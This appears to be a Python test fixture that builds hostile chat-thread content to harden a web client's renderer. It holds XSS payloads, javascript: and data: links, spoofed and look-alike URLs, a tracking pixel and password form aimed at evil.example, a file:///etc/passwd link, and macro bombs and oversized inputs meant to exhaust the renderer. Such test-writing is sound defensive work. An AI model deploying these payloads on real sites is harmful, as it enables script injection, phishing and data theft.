"""Texts that a hostile model, tool or file would send: by what they try."""

import json
from collections.abc import Mapping
from typing import Final

HACK: Final = "globalThis.hacked=1"
ELSEWHERE: Final = "https://evil.example"
# How deep, long and often: what would stop a page that takes all that comes.
MANY: Final = 20_000
LONG: Final = 2_000_000

HTML: Final = {
    "script": f"<script>{HACK}</script>",
    "image with a handler": f"<img src=x onerror={HACK}>",
    "image from elsewhere": f"<img src={ELSEWHERE}/pixel.png>",
    "svg": f"<svg onload={HACK}><script>{HACK}</script></svg>",
    "svg that animates an address": "<svg><a><animate attributeName=href values=javascript:"
    f"{HACK} /><text>x</text></a></svg>",
    "mathml confusion": f"<math><mtext><table><mglyph><style><img src=x onerror={HACK}>",
    "frame": f'<iframe src="{ELSEWHERE}" srcdoc="<script>parent.hacked=1</script>"></iframe>',
    "object": f'<object data="{ELSEWHERE}/x.swf"></object><embed src="{ELSEWHERE}/x">',
    "styles": f"<style>@import '{ELSEWHERE}/x.css'; body {{ display: none }}</style>",
    "base": f'<base href="{ELSEWHERE}/"><link rel=stylesheet href="{ELSEWHERE}/x.css">',
    "refresh": f'<meta http-equiv=refresh content="0;url={ELSEWHERE}">',
    "form": f'<form action="{ELSEWHERE}"><input name=password autofocus><button>Go</button></form>',
    "broken out of code": f"```html\n</code></pre><script>{HACK}</script>\n```",
    "broken out of a language": f'```"><script>{HACK}</script>\nx\n```',
    "class of a language": "```x\u00a0app sidebar\nx\n```",
    "broken out of a table": f"| a |\n|---|\n| </td><script>{HACK}</script> |",
    "template": f"{{{{constructor.constructor('{HACK}')()}}}} ${{{HACK}}}",
    "clobbering": '<a id=netra-config name=app href="x:y">x</a><form id=composer></form>',
    "entities": f"&lt;script&gt;{HACK}&lt;/script&gt; &#60;img src=x onerror={HACK}&#62;",
}
LINKS: Final = {
    "javascript": f"[x](javascript:{HACK}) <javascript:{HACK}>",
    "javascript in disguise": f"[x](JaVaScRiPt:{HACK}) [y](java&#10;script:{HACK}) "
    f"[z](&#x6A;avascript&colon;{HACK}) [w](\u0001javascript:{HACK})",
    "data": f"[x](data:text/html,<script>{HACK}</script>) ![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "vbscript and others": "[x](vbscript:x) [y](file:///etc/passwd) [z](blob:x) [w](//evil.x)",
    "picture from elsewhere": f"![pixel]({ELSEWHERE}/pixel.png?secret)",
    "by reference": f"[x][1] ![y][1]\n\n[1]: javascript:{HACK}",
    "broken out of an address": f'[x](https://example.com/"onmouseover="{HACK}) '
    f"[y](<https://example.com/' style='position:fixed> \"a'b\")",
    "name that lies": "[https://bank.example/login](https://evil.example/login)",
    "look-alike letters": "https://\u0430pple.com and [apple](https://xn--pple-43d.com)",
    "turned around": "[\u202egnp.exe](https://evil.example) \u202e\u2066all the rest \u2067",
    "name and password": "https://bank.example@evil.example/ [x](https://u:p@evil.example)",
}
FORMULAS: Final = {
    "link": rf"\(\href{{javascript:{HACK}}}{{x}}\) \(\url{{javascript:{HACK}}}\)",
    "picture": rf"\(\includegraphics[height=1em]{{{ELSEWHERE}/x.png}}\)",
    "attributes": r"\(\htmlId{app}{x}\htmlClass{sidebar}{y}\) "
    r"\(\htmlStyle{position:fixed}{x}\) \(\htmlData{a=b}{x}\)",
    "html": rf"\(<img src=x onerror={HACK}>\) $$\text{{<script>{HACK}</script>}}$$",
    "bomb": r"\(\def\a{xx}\def\b{\a\a}\def\c{\b\b}\def\d{\c\c}\def\e{\d\d}\def\f{\e\e}\f\f\f\)",
    "endless": r"\(\def\a{\a\a}\a\)",
    "one for all": r"\(\gdef\x{hacked}\) \(\x\)",
    "huge": r"\(\rule{9999999em}{9999999em}\) \[\kern{9999999em}x\] \(\Huge\Huge x\)",
    "far away": r"\(\raisebox{99999px}{x}\smash{x}\llap{over the edge and far away, far away}\)",
    "not closed": r"\(" * 50 + r"\[" * 50 + "$$" * 51,
    "deep": r"\(" + "{" * 1_900 + "}" * 1_900 + r"\)",
    "deep beyond": r"\(" + "{" * 100_000 + r"\)",
    "fractions in fractions": r"\(" + r"\frac{1}{" * 400 + "x" + "}" * 400 + r"\)",
    "many": r"\(x^2\) " * 2_000,
}
SIZES: Final = {
    "line of two megabytes": "x" * LONG,
    "words of two megabytes": "word " * (LONG // 5),
    "lines of two megabytes": "line\n\n" * (LONG // 6),
    "table of 5 000 rows": "| a | b | c |\n|---|---|---|\n" + "| 1 | 2 | 3 |\n" * 5_000,
    "table of 1 000 columns": "\n".join(["| a " * 1_000, "|---" * 1_000, "| 1 " * 1_000]),
    "quotes in quotes": ">" * 5_000 + " x",
    "quotes in quotes on many lines": "\n".join([">" * 200 + " x"] * 100),
    "lists in lists": "\n".join(f"{'  ' * depth}- x" for depth in range(300)),
    "brackets": "[" * MANY + "]" * MANY,
    "links in links": "[a](" * MANY,
    "stars": "*a **b " * MANY,
    "underscores and tildes": "_" * MANY + "~~" * MANY + "a",
    "ticks": "`" * MANY + " " + "` " * MANY,
    "ampersands and angles": "&" * MANY + "<" * MANY + "<!--" * MANY,
    "addresses": "https://a.example/" + "(" * MANY + " " + "a@b." * MANY,
    "code without end": "```python\n" + '"""' * MANY,
    "code of 3 000 lines": "```js\n" + "/*".join(["let a = `${b}`;\n"] * 3_000) + "\n```",
    "references": "\n".join(f"[{n}]: https://a.example/{n}" for n in range(5_000)),
    "combining marks": "Z" + "\u0336\u0489\u0353" * 10_000,
    "zero characters": "a\u0000b\ufffe\u200b\u2028\u2029" * 5_000,
}
PAYLOADS: Final[Mapping[str, str]] = {
    f"{kind}: {name}": text
    for kind, texts in (("html", HTML), ("link", LINKS), ("formula", FORMULAS), ("size", SIZES))
    for name, text in texts.items()
}
# What can stand where a short text does: a name, a title, an error.
SHORT: Final = f"<img src=x onerror={HACK}>\u202egpj.exe [x](javascript:{HACK}) \\(x\\)"


def snapshot(thread_id: str) -> dict[str, object]:
    """A thread whose every text is hostile."""
    markdown = "\n\n".join([*HTML.values(), *LINKS.values(), *FORMULAS.values()])
    value = {"markdown": markdown, SHORT: SHORT, "rows": [{SHORT: SHORT}] * 200, "deep": _deep()}
    chart = {
        "kind": "bar", "title": SHORT, "unit": SHORT, "labels": [SHORT] * 500,
        "series": [{"name": SHORT, "values": [1, 1e308, -1e308, None, "NaN"] * 100}] * 50,
    }  # fmt: skip
    cited = [{"title": SHORT, "source": f"javascript:{HACK}", "excerpt": SHORT * 100}] * 50
    call = {
        "tool_name": SHORT, "args": value, "status": "ok", "elapsed_ms": 5,
        "result": {"charts": [chart] * 20, "citations": cited, SHORT: SHORT},
    }  # fmt: skip
    answer = {
        "role": "assistant", "text": markdown, "run_id": "run_1_hostile0", "status": "failed",
        "thinking": SHORT * 5_000, "model": SHORT, "usage": {"input_tokens": 5, "elapsed_ms": 5},
        "tool_calls": [
            {**call, "call_id": "c1"},
            {**call, "call_id": "c2", "status": "error", "args": {}, "error": {"message": SHORT}},
            {**call, "call_id": "c3", "result": "x" * LONG},
        ],
        "error": {"code": SHORT, "message": SHORT, "retryable": True},
        "question_id": "msg_1_hostile0",
    }  # fmt: skip
    question = {
        "role": "user", "text": markdown[:9_000], "run_id": "run_1_hostile0", "status": "stored",
        "files": [{"file_id": "file_1_hostile0", "name": SHORT, "bytes": 1}] * 20,
    }  # fmt: skip
    common = {"ts": "2026-11-22T12:00:00.000Z"}
    return {
        "type": "snapshot", "thread_id": thread_id, "seq": 9, "more": False, "tip": None,
        "model": None, "usage": {}, "active_run": None, "queued_runs": [],
        "messages": [
            {"message_id": "msg_1_hostile0", "seq": 1, **common, **question},
            {"message_id": "msg_1_hostile1", "seq": 5, **common, **answer},
        ],
    }  # fmt: skip


def _deep() -> object:
    return json.loads('{"a":' * 500 + "1" + "}" * 500)
